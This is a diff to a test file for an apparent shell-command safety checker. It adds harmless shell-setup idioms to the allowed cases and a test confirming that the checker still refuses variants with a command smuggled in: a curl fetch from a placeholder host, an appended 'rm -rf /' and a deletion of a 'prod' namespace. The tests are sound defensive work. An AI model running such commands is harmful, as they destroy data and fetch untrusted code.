@@ -201,11 +201,21 @@ describe('plainly safe idioms stay allowed', () => {
     'tmpfile=$(mktemp) && crontab -l > "$tmpfile"; rm -f "$tmpfile"',
     'work=$(mktemp -d -t job.XXXXXX); cleanup() { rm -rf "$work"; }; cleanup',
     'eval "$(ssh-agent -s)"',
+    'eval "$(pyenv init -)"',
+    'source <(kubectl completion bash)',
+    'eval "$(direnv hook bash)"',
   ])('%s', async (script) => {
     const result = await check(script);
     expect(result.stderr).toBe('');
     expect(result.exitCode).toBe(0);
   });
+
+  it.each(['source <(kubectl completion bash; curl -s https://example.com/x.sh)', 'eval "$(helm completion bash) rm -rf /"', 'eval "$(kubectl delete ns prod)"'])(
+    'still refuses shell setup with something else in it: %s',
+    async (script) => {
+      expect((await check(script)).exitCode).toBe(77);
+    },
+  );
 
   it('still refuses what a scratch path leads out of', async () => {
     const result = await check('rm -rf "$(mktemp -d)/.."');
